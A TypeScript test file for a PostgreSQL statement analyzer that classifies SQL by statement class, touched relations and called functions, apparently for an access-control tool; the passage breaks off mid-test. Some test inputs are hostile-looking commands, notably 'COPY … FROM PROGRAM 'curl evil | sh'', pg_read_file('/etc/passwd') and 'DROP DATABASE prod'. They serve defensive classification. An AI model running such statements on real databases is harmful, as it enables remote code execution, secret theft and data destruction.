// The analysis table: statements → classes, relations, functions, through the real parser.
import { beforeAll, describe, expect, test } from "bun:test";
import type { AnalysisContext, StatementInfo } from "./analysis.ts";
import { analyzeStatement } from "./analyze-statement.ts";
import { isMarker, marker, splitMarkers } from "./markers.ts";
import { loadSqlParser, type SqlParser } from "./sql-parser.ts";
import { waitFor } from "../../../../test/helpers/wait.ts";

let parser: SqlParser;
beforeAll(async () => {
  parser = await loadSqlParser();
});

const PUBLIC: AnalysisContext = { searchPath: ["public"] };
/** An unqualified function with search_path [public]. */
const fn = (name: string): string[] => [`pg_catalog.${name}`, `public.${name}`];

function one(sql: string, ctx: AnalysisContext = PUBLIC): StatementInfo {
  const a = parser.analyze(sql, ctx);
  if (!a.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse: ${a.error}`);
  expect(a.statements).toHaveLength(1);
  const s = a.statements[0];
  if (s === undefined) throw new Error("no statement");
  return s;
}

interface Case {
  readonly sql: string;
  readonly classes: readonly string[];
  readonly relations?: readonly string[];
  readonly functions?: readonly string[];
  readonly ctx?: AnalysisContext;
  readonly node?: string;
}

const sorted = (xs: readonly string[]): string[] => [...xs].sort();

// relations and functions default to [] : a case states everything the statement touches.
const CASES: readonly Case[] = [
  // --- reads ---------------------------------------------------------------------------
  { sql: "SELECT 1", classes: ["read"], node: "SelectStmt" },
  { sql: "select * from Orders", classes: ["read"], relations: ["public.orders"] },
  { sql: 'SELECT * FROM "Sales"."Orders"', classes: ["read"], relations: ["Sales.Orders"] },
  { sql: "SeLeCt * FrOm SaLeS.OrDeRs", classes: ["read"], relations: ["sales.orders"] },
  { sql: 'SELECT * FROM "sales".orders', classes: ["read"], relations: ["sales.orders"] },
  { sql: 'SELECT * FROM "we.ird"."t"', classes: ["read"], relations: ['"we.ird".t'] },
  { sql: 'SELECT * FROM U&"\\0073ales".orders', classes: ["read"], relations: ["sales.orders"] },
  { sql: "SELECT * FROM U&\"!0068r\" UESCAPE '!'", classes: ["read"], relations: ["public.hr"] },
  { sql: "SELECT * FROM mydb.sales.orders", classes: ["read"], relations: ["sales.orders"] },
  {
    sql: "SELECT * FROM sales.orders o JOIN sales.customers c ON c.id = o.cid",
    classes: ["read"],
    relations: ["sales.customers", "sales.orders"],
  },
  { sql: "SELECT * FROM a LEFT JOIN b USING (id) CROSS JOIN c", classes: ["read"], relations: ["public.a", "public.b", "public.c"] },
  {
    sql: "SELECT * FROM /* hr.salaries */ sales.orders -- hr.salaries\nWHERE true",
    classes: ["read"],
    relations: ["sales.orders"],
  },
  { sql: "SELECT '/*', * FROM a -- */ FROM hr.salaries", classes: ["read"], relations: ["public.a"] },
  {
    sql: "SELECT id, (SELECT salary FROM hr.salaries s WHERE s.emp = e.id) FROM hr.employees e",
    classes: ["read"],
    relations: ["hr.employees", "hr.salaries"],
  },
  {
    sql: "SELECT (SELECT max(amount) FROM hr.salaries) AS m FROM sales.orders",
    classes: ["read"],
    relations: ["hr.salaries", "sales.orders"],
    functions: fn("max"),
  },
  {
    sql: "SELECT * FROM sales.orders WHERE cid IN (SELECT id FROM sales.customers WHERE region = 'eu')",
    classes: ["read"],
    relations: ["sales.customers", "sales.orders"],
  },
  {
    sql: "SELECT * FROM sales.orders WHERE EXISTS (SELECT 1 FROM hr.salaries s WHERE s.id = orders.id)",
    classes: ["read"],
    relations: ["hr.salaries", "sales.orders"],
  },
  {
    sql: "SELECT region, count(*) FROM sales.customers GROUP BY region HAVING count(*) > (SELECT count(*) FROM hr.employees)",
    classes: ["read"],
    relations: ["hr.employees", "sales.customers"],
    functions: fn("count"),
  },
  {
    sql: "SELECT * FROM sales.customers c, LATERAL (SELECT * FROM sales.orders o WHERE o.cid = c.id LIMIT 3) x",
    classes: ["read"],
    relations: ["sales.customers", "sales.orders"],
  },
  {
    sql: "SELECT * FROM sales.customers c CROSS JOIN LATERAL generate_series(1, c.n) g",
    classes: ["read"],
    relations: ["sales.customers"],
    functions: fn("generate_series"),
  },
  { sql: "SELECT * FROM generate_series(1, 10)", classes: ["read"], functions: fn("generate_series") },
  {
    sql: "SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY[1]))",
    classes: ["read"],
    functions: [...fn("generate_series"), ...fn("unnest")],
  },
  { sql: "TABLE sales.orders", classes: ["read"], relations: ["sales.orders"] },
  { sql: "VALUES (1, 'a'), (2, 'b')", classes: ["read"] },
  {
    sql: "SELECT id FROM a UNION ALL SELECT id FROM b EXCEPT SELECT id FROM c",
    classes: ["read"],
    relations: ["public.a", "public.b", "public.c"],
  },
  { sql: "SELECT rank() OVER (ORDER BY x) FROM a", classes: ["read"], relations: ["public.a"], functions: fn("rank") },
  {
    sql: "SELECT * FROM sales.orders o WHERE id = 1 FOR UPDATE OF o",
    classes: ["lock_rows", "read"],
    relations: ["sales.orders"],
  },
  { sql: "SELECT pg_catalog.now()", classes: ["read"], functions: ["pg_catalog.now"] },
  { sql: "SELECT 1 + 2, 'a' || 'b', x::int FROM t", classes: ["read"], relations: ["public.t"] },
  { sql: "SELECT CURRENT_USER, COALESCE(a, b), GREATEST(a, b) FROM t", classes: ["read"], relations: ["public.t"] },
  { sql: "SELECT * FROM t TABLESAMPLE SYSTEM (10)", classes: ["read"], relations: ["public.t"] },
  {
    sql: "SELECT json_agg(x) FILTER (WHERE x > (SELECT 1 FROM hr.y)) FROM t",
    classes: ["read"],
    relations: ["hr.y", "public.t"],
    functions: fn("json_agg"),
  },
  {
    sql: "SELECT CASE WHEN a THEN (SELECT 1 FROM hr.c) ELSE 0 END, ARRAY(SELECT 1 FROM hr.d) FROM t",
    classes: ["read"],
    relations: ["hr.c", "hr.d", "public.t"],
  },
  {
    sql: "SELECT * FROM JSON_TABLE((SELECT doc FROM hr.docs LIMIT 1), '$' COLUMNS (a int PATH '$.a')) jt",
    classes: ["read"],
    relations: ["hr.docs"],
    // An older server reads JSON_TABLE(…) as a call of a function of that name.
    functions: fn("json_table"),
  },
  { sql: "SELECT $$; DROP TABLE sales.orders; $$ AS x", classes: ["read"] },
  { sql: "SELECT $tag$ DROP DATABASE prod $tag$", classes: ["read"] },
  { sql: "SELECT 'sales.x'::regclass", classes: ["read"] },
  // --- name resolution --------------------------------------------------------------------
  { sql: "SELECT * FROM pg_class", classes: ["read"], relations: ["pg_catalog.pg_class", "public.pg_class"] },
  { sql: "SELECT * FROM pg_catalog.pg_authid", classes: ["read"], relations: ["pg_catalog.pg_authid"] },
  { sql: "SELECT * FROM information_schema.tables", classes: ["read"], relations: ["information_schema.tables"] },
  {
    sql: "SELECT * FROM secrets",
    ctx: { searchPath: ["sales", "public"] },
    classes: ["read"],
    relations: ["public.secrets", "sales.secrets"],
  },
  {
    sql: "SELECT * FROM t",
    ctx: { searchPath: ["$user", "public"], user: "alice" },
    classes: ["read"],
    relations: ["alice.t", "public.t"],
  },
  { sql: "SELECT * FROM t", ctx: { searchPath: ["$user", "public"] }, classes: ["read"], relations: ["public.t"] },
  { sql: "SELECT * FROM t", ctx: { searchPath: [] }, classes: ["read"], relations: ["pg_temp.t"] },
  { sql: "SELECT f()", ctx: { searchPath: [] }, classes: ["read"], functions: ["pg_catalog.f"] },
  {
    sql: "SELECT * FROM t",
    ctx: { searchPath: ["public", "pg_catalog"] },
    classes: ["read"],
    relations: ["pg_catalog.t", "public.t"],
  },
  // --- CTEs ---------------------------------------------------------------------------------
  {
    sql: "WITH d AS (DELETE FROM sales.orders RETURNING *) SELECT * FROM d",
    classes: ["delete", "read"],
    relations: ["sales.orders"],
  },
  { sql: "WITH orders AS (SELECT 1 AS id) SELECT * FROM orders", ctx: { searchPath: ["sales"] }, classes: ["read"] },
  {
    sql: "SELECT * FROM (WITH orders AS (SELECT 1) SELECT * FROM orders) x JOIN orders o ON true",
    ctx: { searchPath: ["sales"] },
    classes: ["read"],
    relations: ["sales.orders"],
  },
  {
    sql: "WITH orders AS (SELECT * FROM orders WHERE id > 0) SELECT * FROM orders",
    classes: ["read"],
    relations: ["public.orders"],
  },
  {
    sql: "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
    classes: ["read"],
  },
  { sql: "WITH orders AS (SELECT 1) SELECT * FROM public.orders", classes: ["read"], relations: ["public.orders"] },
  {
    sql: "WITH a AS (SELECT * FROM sales.x), b AS (SELECT * FROM a) SELECT * FROM b",
    classes: ["read"],
    relations: ["sales.x"],
  },
  { sql: "WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", classes: ["read"], relations: ["public.a"] },
  {
    sql: "WITH t AS (SELECT 1 AS x) INSERT INTO t SELECT x FROM t",
    classes: ["insert", "read"],
    relations: ["public.t"],
  },
  {
    sql: "(WITH x AS (SELECT 1) SELECT * FROM x) UNION SELECT * FROM x",
    classes: ["read"],
    relations: ["public.x"],
  },
  {
    sql: "WITH u AS (UPDATE sales.orders SET status = 'x' RETURNING id) INSERT INTO audit.log SELECT id FROM u",
    classes: ["insert", "read", "update"],
    relations: ["audit.log", "sales.orders"],
  },
  {
    sql: "SELECT * INTO orders FROM (WITH orders AS (SELECT 1) SELECT * FROM orders) s",
    classes: ["ddl.create.table", "read"],
    relations: ["public.orders"],
  },
  // --- DML ----------------------------------------------------------------------------------
  { sql: "INSERT INTO sales.orders (id) VALUES (1)", classes: ["insert"], relations: ["sales.orders"], node: "InsertStmt" },
  {
    sql: "INSERT INTO sales.orders SELECT * FROM staging.orders",
    classes: ["insert", "read"],
    relations: ["sales.orders", "staging.orders"],
  },
  {
    sql: "INSERT INTO sales.orders (id) VALUES ((SELECT max(id) FROM hr.salaries))",
    classes: ["insert", "read"],
    relations: ["hr.salaries", "sales.orders"],
    functions: fn("max"),
  },
  { sql: "INSERT INTO sales.orders (id) VALUES (1) RETURNING *", classes: ["insert", "read"], relations: ["sales.orders"] },
  {
    sql: "INSERT INTO t (id, x) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET x = excluded.x",
    classes: ["insert", "update"],
    relations: ["public.t"],
  },
  { sql: "INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING", classes: ["insert"], relations: ["public.t"] },
  {
    sql: "UPDATE sales.orders SET total = t.total FROM staging.totals t WHERE t.id = orders.id",
    classes: ["update"],
    relations: ["sales.orders", "staging.totals"],
  },
  {
    sql: "UPDATE sales.orders SET x = (SELECT y FROM hr.salaries LIMIT 1)",
    classes: ["read", "update"],
    relations: ["hr.salaries", "sales.orders"],
  },
  {
    sql: "DELETE FROM sales.orders USING sales.customers c WHERE c.id = orders.cid AND c.banned",
    classes: ["delete"],
    relations: ["sales.customers", "sales.orders"],
  },
  { sql: "DELETE FROM sales.orders RETURNING *", classes: ["delete", "read"], relations: ["sales.orders"] },
  {
    sql: "MERGE INTO sales.orders t USING staging.orders s ON t.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT (id, total) VALUES (s.id, s.total)",
    classes: ["insert", "merge", "update"],
    relations: ["sales.orders", "staging.orders"],
    node: "MergeStmt",
  },
  {
    sql: "MERGE INTO a USING (SELECT * FROM b) s ON a.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN DO NOTHING",
    classes: ["delete", "merge", "read"],
    relations: ["public.a", "public.b"],
  },
  // --- DDL ----------------------------------------------------------------------------------
  {
    sql: "CREATE TABLE sales.x (id int DEFAULT nextval('sales.x_id_seq'), created timestamptz DEFAULT now())",
    classes: ["ddl.create.table"],
    relations: ["sales.x", "sales.x_id_seq"],
    functions: [...fn("nextval"), ...fn("now")],
  },
  {
    sql: "CREATE TABLE sales.y (LIKE sales.x INCLUDING ALL, cid int REFERENCES sales.customers (id))",
    classes: ["ddl.create.table"],
    relations: ["sales.customers", "sales.x", "sales.y"],
  },
  { sql: "CREATE TABLE IF NOT EXISTS t (a int) INHERITS (parent)", classes: ["ddl.create.table"], relations: ["public.parent", "public.t"] },
  {
    sql: "CREATE TABLE sales.big AS SELECT * FROM hr.salaries",
    classes: ["ddl.create.table", "read"],
    relations: ["hr.salaries", "sales.big"],
    node: "CreateTableAsStmt",
  },
  {
    sql: "SELECT * INTO sales.copy FROM hr.salaries",
    classes: ["ddl.create.table", "read"],
    relations: ["hr.salaries", "sales.copy"],
  },
  {
    sql: "CREATE MATERIALIZED VIEW mv AS SELECT * FROM hr.salaries",
    classes: ["ddl.create.matview", "read"],
    relations: ["hr.salaries", "public.mv"],
  },
  { sql: "CREATE VIEW v AS SELECT * FROM hr.salaries", classes: ["ddl.create.view"], relations: ["hr.salaries", "public.v"] },
  {
    sql: "CREATE OR REPLACE VIEW v AS SELECT pg_read_file('/etc/passwd')",
    classes: ["ddl.create.view"],
    relations: ["public.v"],
    functions: fn("pg_read_file"),
  },
  {
    sql: "CREATE INDEX CONCURRENTLY idx ON sales.orders (lower(email))",
    classes: ["ddl.create.index"],
    relations: ["sales.orders"],
    functions: fn("lower"),
  },
  { sql: "CREATE SCHEMA hr", classes: ["ddl.create.schema"] },
  {
    sql: "CREATE SCHEMA s2 CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t",
    classes: ["ddl.create.schema", "ddl.create.table", "ddl.create.view"],
    relations: ["public.t", "public.v", "s2.t", "s2.v"],
  },
  { sql: "CREATE DATABASE d", classes: ["ddl.create.database"] },
  { sql: "CREATE ROLE r LOGIN PASSWORD 'x'", classes: ["ddl.create.role"] },
  { sql: "CREATE USER u", classes: ["ddl.create.role"] },
  { sql: "CREATE EXTENSION dblink", classes: ["ddl.create.extension"] },
  {
    sql: "CREATE FUNCTION public.f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a $$",
    classes: ["ddl.create.function"],
    functions: ["public.f"],
  },
  {
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM sales.orders; SELECT 1; END",
    classes: ["ddl.create.function"],
    relations: ["sales.orders"],
    functions: fn("f"),
  },
  {
    sql: "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM x; END $$",
    classes: ["ddl.create.procedure"],
    functions: fn("p"),
  },
  {
    sql: "CREATE TRIGGER trg BEFORE INSERT ON sales.orders FOR EACH ROW EXECUTE FUNCTION audit.log_change()",
    classes: ["ddl.create.trigger"],
    relations: ["sales.orders"],
    functions: ["audit.log_change"],
  },
  {
    sql: "CREATE POLICY p ON sales.orders USING (cid IN (SELECT id FROM sales.customers))",
    classes: ["ddl.create.policy"],
    relations: ["sales.customers", "sales.orders"],
  },
  {
    sql: "CREATE RULE r AS ON INSERT TO sales.orders DO INSTEAD DELETE FROM hr.salaries",
    classes: ["ddl.create.rule"],
    relations: ["hr.salaries", "sales.orders"],
  },
  { sql: "CREATE SEQUENCE s", classes: ["ddl.create.sequence"], relations: ["public.s"] },
  { sql: "CREATE TEMP TABLE scratch (a int)", classes: ["ddl.create.table"], relations: ["pg_temp.scratch"] },
  {
    sql: "SELECT * INTO TEMP scratch FROM hr.salaries",
    classes: ["ddl.create.table", "read"],
    relations: ["hr.salaries", "pg_temp.scratch"],
  },
  { sql: "CREATE TYPE mood AS ENUM ('a', 'b')", classes: ["ddl.create.type"] },
  { sql: "CREATE AGGREGATE myagg (int) (sfunc = int4pl, stype = int)", classes: ["ddl.create.aggregate"] },
  { sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", classes: ["ddl.create.foreign_server"] },
  {
    sql: "ALTER TABLE sales.orders ADD COLUMN note text DEFAULT current_setting('x')",
    classes: ["ddl.alter.table"],
    relations: ["sales.orders"],
    functions: fn("current_setting"),
  },
  { sql: "ALTER TABLE sales.orders RENAME COLUMN a TO b", classes: ["ddl.alter.table"], relations: ["sales.orders"] },
  { sql: "ALTER TABLE sales.orders RENAME TO o2", classes: ["ddl.alter.table"], relations: ["sales.orders"] },
  { sql: "ALTER VIEW v OWNER TO bob", classes: ["ddl.alter.view"], relations: ["public.v"] },
  { sql: "ALTER TABLE sales.orders SET SCHEMA archive", classes: ["ddl.alter.table"], relations: ["sales.orders"] },
  { sql: "ALTER ROLE bob SUPERUSER", classes: ["ddl.alter.role"] },
  { sql: "ALTER DATABASE d SET search_path = x", classes: ["ddl.alter.database"] },
  { sql: "ALTER SYSTEM SET shared_buffers = '1GB'", classes: ["ddl.alter.system"] },
  { sql: "ALTER FUNCTION f(int) SECURITY DEFINER", classes: ["ddl.alter.function"], functions: fn("f") },
  { sql: "ALTER SCHEMA s RENAME TO t", classes: ["ddl.alter.schema"] },
  { sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", classes: ["ddl.alter.default_privileges"] },
  { sql: "DROP DATABASE prod", classes: ["ddl.drop.database"], node: "DropdbStmt" },
  { sql: "DROP SCHEMA hr CASCADE", classes: ["ddl.drop.schema"] },
  { sql: "DROP TABLE sales.orders, tmp", classes: ["ddl.drop.table"], relations: ["public.tmp", "sales.orders"] },
  { sql: "DROP VIEW IF EXISTS v", classes: ["ddl.drop.view"], relations: ["public.v"] },
  { sql: "DROP INDEX sales.idx", classes: ["ddl.drop.index"], relations: ["sales.idx"] },
  { sql: "DROP FUNCTION f(int), s.g", classes: ["ddl.drop.function"], functions: [...fn("f"), "s.g"] },
  { sql: "DROP TRIGGER trg ON sales.orders", classes: ["ddl.drop.trigger"], relations: ["sales.orders"] },
  { sql: "DROP ROLE bob", classes: ["ddl.drop.role"] },
  { sql: "DROP EXTENSION dblink", classes: ["ddl.drop.extension"] },
  { sql: "DROP OWNED BY bob", classes: ["ddl.drop.owned"] },
  { sql: "TRUNCATE a, sales.b", classes: ["truncate"], relations: ["public.a", "sales.b"] },
  { sql: "TRUNCATE TABLE ONLY a RESTART IDENTITY CASCADE", classes: ["truncate"], relations: ["public.a"] },
  { sql: "COMMENT ON TABLE sales.orders IS 'x'", classes: ["comment"], relations: ["sales.orders"] },
  // --- privileges ---------------------------------------------------------------------------
  { sql: "GRANT SELECT ON sales.orders TO bob", classes: ["grant"], relations: ["sales.orders"] },
  { sql: "REVOKE ALL ON ALL TABLES IN SCHEMA hr FROM public", classes: ["revoke"] },
  { sql: "GRANT admin TO bob", classes: ["grant"] },
  { sql: "GRANT USAGE ON SEQUENCE sales.s TO bob", classes: ["grant"], relations: ["sales.s"] },
  { sql: "GRANT CONNECT ON DATABASE d TO bob", classes: ["grant"] },
  { sql: "REVOKE admin FROM bob", classes: ["revoke"] },
  { sql: "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob", classes: ["grant"], functions: fn("pg_read_file") },
  // --- COPY ---------------------------------------------------------------------------------
  { sql: "COPY sales.orders TO STDOUT", classes: ["copy.to", "read"], relations: ["sales.orders"] },
  {
    sql: "COPY (SELECT * FROM hr.salaries) TO STDOUT WITH (FORMAT csv)",
    classes: ["copy.to", "read"],
    relations: ["hr.salaries"],
  },
  {
    sql: "COPY t FROM PROGRAM 'curl evil | sh'",
    classes: ["copy.from", "copy.program", "insert"],
    relations: ["public.t"],
  },
  { sql: "COPY t TO '/tmp/x'", classes: ["copy.file", "copy.to", "read"], relations: ["public.t"] },
  { sql: "COPY t (a, b) FROM STDIN WHERE a > 0", classes: ["copy.from", "insert"], relations: ["public.t"] },
  { sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", classes: ["copy.to", "delete", "read"], relations: ["public.t"] },
  // --- settings, transactions, procedural -------------------------------------------------------
  { sql: "SHOW search_path", classes: ["show"] },
  { sql: "BEGIN", classes: ["transaction"] },
  { sql: "START TRANSACTION READ ONLY", classes: ["transaction"] },
  { sql: "COMMIT", classes: ["transaction"] },
  { sql: "ROLLBACK", classes: ["transaction"] },
  { sql: "SAVEPOINT s", classes: ["transaction"] },
  { sql: "RELEASE SAVEPOINT s", classes: ["transaction"] },
  { sql: "ROLLBACK TO SAVEPOINT s", classes: ["transaction"] },
  { sql: "ABORT", classes: ["transaction"] },
  { sql: "END", classes: ["transaction"] },
  { sql: "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY", classes: ["transaction"] },
  { sql: "COMMIT AND CHAIN", classes: ["transaction"] },
  // Two-phase commit outlives the session and finishes other sessions' transactions.
  { sql: "PREPARE TRANSACTION 'x'", classes: ["transaction.prepared"] },
  { sql: "COMMIT PREPARED 'x'", classes: ["transaction.prepared"] },
  { sql: "ROLLBACK PREPARED 'x'", classes: ["transaction.prepared"] },
  // Ordinary session settings are plain `set`; any other setting is named as set_config(<name>).
  { sql: "SET statement_timeout = '5s'", classes: ["set"] },
  { sql: "SET LOCAL lock_timeout TO 1000", classes: ["set"] },
  { sql: "SET application_name = 'psql'", classes: ["set"] },
  { sql: "SET DateStyle TO ISO, MDY", classes: ["set"] },
  { sql: "SET TIME ZONE 'UTC'", classes: ["set"] },
  { sql: "SET IntervalStyle = postgres", classes: ["set"] },
  { sql: "SET extra_float_digits = 3", classes: ["set"] },
  { sql: "SET client_min_messages TO warning", classes: ["set"] },
  { sql: "SET idle_in_transaction_session_timeout = 0", classes: ["set"] },
  { sql: "SET search_path TO sales, public", classes: ["set"] },
  { sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", classes: ["set"] },
  { sql: "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", classes: ["set"] },
  { sql: "SET NAMES 'UTF8'", classes: ["set"] },
  { sql: "RESET statement_timeout", classes: ["set"] },
  { sql: "RESET ALL", classes: ["set"] },
  { sql: "SET ROLE admin", classes: ["set"], functions: ["pg_catalog.set_config(role)"] },
  { sql: "RESET ROLE", classes: ["set"], functions: ["pg_catalog.set_config(role)"] },
  { sql: "SET SESSION AUTHORIZATION admin", classes: ["set"], functions: ["pg_catalog.set_config(session_authorization)"] },
  { sql: "SET backslash_quote = on", classes: ["set"], functions: ["pg_catalog.set_config(backslash_quote)"] },
  { sql: "SET session_replication_role = replica", classes: ["set"], functions: ["pg_catalog.set_config(session_replication_role)"] },
  { sql: "SET app.tenant = '7'", classes: ["set"], functions: ["pg_catalog.set_config(app.tenant)"] },
  { sql: "SET client_encoding = 'LATIN1'", classes: ["set"], functions: ["pg_catalog.set_config(client_encoding)"] },
  { sql: "DISCARD ALL", classes: ["discard"] },
  // A DO body is opaque: it counts as the pseudo function do(<language>), on the default deny list.
  { sql: "DO $$ BEGIN DELETE FROM sales.orders; END $$", classes: ["procedural"], functions: ["pg_catalog.do(plpgsql)"], node: "DoStmt" },
  { sql: "DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$", classes: ["procedural"], functions: ["pg_catalog.do(plpgsql)"] },
  { sql: "do 'begin perform 1; end' LANGUAGE PLPERL", classes: ["procedural"], functions: ["pg_catalog.do(plperl)"] },
  { sql: 'DO LANGUAGE "we.ird" $$x$$', classes: ["procedural"], functions: ["pg_catalog.do(unknown)"] },
  { sql: "DEALLOCATE p", classes: ["deallocate"], node: "DeallocateStmt" },
  { sql: "DEALLOCATE ALL", classes: ["deallocate"] },
  { sql: "CALL sales.refresh(1, now())", classes: ["procedural"], functions: [...fn("now"), "sales.refresh"] },
  { sql: "CALL proc()", classes: ["procedural"], functions: fn("proc") },
  // --- EXPLAIN ------------------------------------------------------------------------------
  // Plain EXPLAIN runs nothing but is decided by what it explains: its statement's classes count.
  { sql: "EXPLAIN SELECT * FROM hr.salaries", classes: ["explain", "read"], relations: ["hr.salaries"] },
  { sql: "EXPLAIN DELETE FROM sales.orders", classes: ["delete", "explain"], relations: ["sales.orders"] },
  { sql: "EXPLAIN ANALYZE DELETE FROM sales.orders", classes: ["delete", "explain"], relations: ["sales.orders"] },
  { sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", classes: ["explain", "update"], relations: ["public.t"] },
  { sql: "EXPLAIN (ANALYZE false) DELETE FROM t", classes: ["delete", "explain"], relations: ["public.t"] },
  { sql: "EXPLAIN (ANALYZE off) DELETE FROM t", classes: ["delete", "explain"], relations: ["public.t"] },
  { sql: "EXPLAIN (COSTS off) INSERT INTO sales.orders SELECT * FROM hr.salaries", classes: ["explain", "insert", "read"], relations: ["hr.salaries", "sales.orders"] },
  { sql: "EXPLAIN (ANALYZE 'maybe') DELETE FROM t", classes: ["delete", "explain"], relations: ["public.t"] },
  // --- LISTEN / NOTIFY ----------------------------------------------------------------------------
  { sql: "UNLISTEN *", classes: ["unlisten"] },
  { sql: "SELECT pg_notify('ch', 'x')", classes: ["notify", "read"], functions: fn("pg_notify") },
  // --- other utility statements -------------------------------------------------------------------
  { sql: "VACUUM ANALYZE sales.orders", classes: ["vacuum"], relations: ["sales.orders"] },
  { sql: "ANALYZE sales.orders", classes: ["analyze"], relations: ["sales.orders"] },
  { sql: "LOCK TABLE sales.orders IN ACCESS EXCLUSIVE MODE", classes: ["lock"], relations: ["sales.orders"] },
  { sql: "REINDEX TABLE sales.orders", classes: ["reindex"], relations: ["sales.orders"] },
  { sql: "CLUSTER sales.orders USING idx", classes: ["cluster"], relations: ["sales.orders"] },
  { sql: "CHECKPOINT", classes: ["checkpoint"] },
  { sql: "LOAD 'auto_explain'", classes: ["load"] },
  { sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY sales.mv", classes: ["refresh_matview"], relations: ["sales.mv"] },
  { sql: "DISCARD PLANS", classes: ["discard"] },
  { sql: "DECLARE c CURSOR FOR SELECT * FROM hr.salaries", classes: ["declare_cursor", "read"], relations: ["hr.salaries"] },
  { sql: "FETCH 10 FROM c", classes: ["fetch"] },
  { sql: "MOVE NEXT IN c", classes: ["move"] },
  { sql: "CLOSE c", classes: ["close"] },
  { sql: "SET CONSTRAINTS ALL DEFERRED", classes: ["set_constraints"] },
  { sql: "DEALLOCATE ALL", classes: ["deallocate"] },
  // --- functions ------------------------------------------------------------------------------------
  { sql: "SELECT nextval('sales.orders_id_seq')", classes: ["read", "update"], relations: ["sales.orders_id_seq"], functions: fn("nextval") },
  { sql: "SELECT currval('\"Sales\".Seq')", classes: ["read"], relations: ["Sales.seq"], functions: fn("currval") },
  { sql: "SELECT pg_read_file('/etc/passwd')", classes: ["read"], functions: fn("pg_read_file") },
  {
    sql: "SELECT * FROM dblink('host=x', 'DELETE FROM y') AS t(a int)",
    classes: ["read"],
    functions: fn("dblink"),
  },
  {
    sql: "SELECT query_to_xml('select * from hr.salaries', true, false, '')",
    classes: ["read"],
    functions: fn("query_to_xml"),
  },
  {
    sql: "SELECT set_config('search_path', 'hr', false)",
    classes: ["read", "set"],
    functions: [...fn("set_config"), "pg_catalog.set_config(search_path)"],
  },
  {
    sql: "SELECT set_config($1, 'x', false)",
    classes: ["read", "set"],
    functions: [
      ...fn("set_config"),
      "pg_catalog.set_config(client_encoding)",
      "pg_catalog.set_config(role)",
      "pg_catalog.set_config(search_path)",
      "pg_catalog.set_config(session_authorization)",
      "pg_catalog.set_config(standard_conforming_strings)",
    ],
  },
];

describe("analyze: statement table", () => {
  test("the table is big", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(100);
  });
  for (const c of CASES) {
    test(c.sql.replaceAll("\n", " "), () => {
      const s = one(c.sql, c.ctx);
      expect({ classes: s.classes, relations: s.relations, functions: s.functions.filter((f) => !isMarker(f)) }).toEqual({
        classes: sorted(c.classes),
        relations: sorted(c.relations ?? []),
        functions: sorted(c.functions ?? []),
      });
      expect(s.text).toBe(c.sql);
      if (c.node !== undefined) expect(s.node).toBe(c.node);
    });
  }
});

describe("analyze: statement facts", () => {
  test("SET search_path is reported in PostgreSQL's printed form", () => {
    expect(one("SET search_path TO hr, public").sets).toEqual([{ name: "search_path", value: "hr, public", local: false }]);
    expect(one("SET LOCAL search_path = 'Sales', x").sets).toEqual([{ name: "search_path", value: '"Sales", x', local: true }]);
    expect(one('SET search_path = "$user", public').sets).toEqual([{ name: "search_path", value: '"$user", public', local: false }]);
    expect(one("SET search_path TO DEFAULT").sets).toEqual([{ name: "search_path", value: null, local: false }]);
    expect(one("RESET search_path").sets).toEqual([{ name: "search_path", value: null, local: false }]);
    expect(one("RESET ALL").sets).toEqual([{ name: "all", value: null, local: false }]);
    expect(one("DISCARD ALL").sets).toEqual([{ name: "all", value: null, local: false }]);
    expect(one("SET SCHEMA 'hr'").sets).toEqual([{ name: "search_path", value: "hr", local: false }]);
    // One string is one schema name, commas and all, exactly as PostgreSQL treats it.
    expect(one("SET search_path = 'hr, public'").sets).toEqual([{ name: "search_path", value: '"hr, public"', local: false }]);
  });

  test("SET of role, session authorization, time zone; opaque forms", () => {
    expect(one("SET ROLE admin").sets).toEqual([{ name: "role", value: "admin", local: false }]);
    expect(one("SET SESSION AUTHORIZATION bob").sets).toEqual([{ name: "session_authorization", value: "bob", local: false }]);
    expect(one("SET TIME ZONE 'UTC'").sets).toEqual([{ name: "timezone", value: "UTC", local: false }]);
    expect(one("SET search_path FROM CURRENT").sets).toEqual([{ name: "search_path", value: null, local: false, opaque: true }]);
    expect(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").sets).toEqual([
      { name: "transaction", value: null, local: false, opaque: true },
    ]);
    expect(one("SET search_path TO hr").classes).toEqual(["set"]);
  });

  test("ALTER ROLE/DATABASE/SYSTEM … SET change no session setting", () => {
    expect(one("ALTER ROLE bob SET search_path = evil").sets).toBeUndefined();
    expect(one("ALTER SYSTEM SET search_path = evil").sets).toBeUndefined();
  });

  test("set_config in a SELECT", () => {
    expect(one("SELECT set_config('search_path', 'hr, public', false)").sets).toEqual([
      { name: "search_path", value: "hr, public", local: false },
    ]);
    expect(one("SELECT * FROM t WHERE set_config('SEARCH_PATH', 'hr', true) IS NOT NULL").sets).toEqual([
      { name: "search_path", value: "hr", local: true },
    ]);
    expect(one("SELECT set_config('search_path', $1, false)").sets).toEqual([
      { name: "search_path", value: null, local: false, opaque: true },
    ]);
    expect(one("SELECT set_config($1, 'x', false)").sets).toBeUndefined();
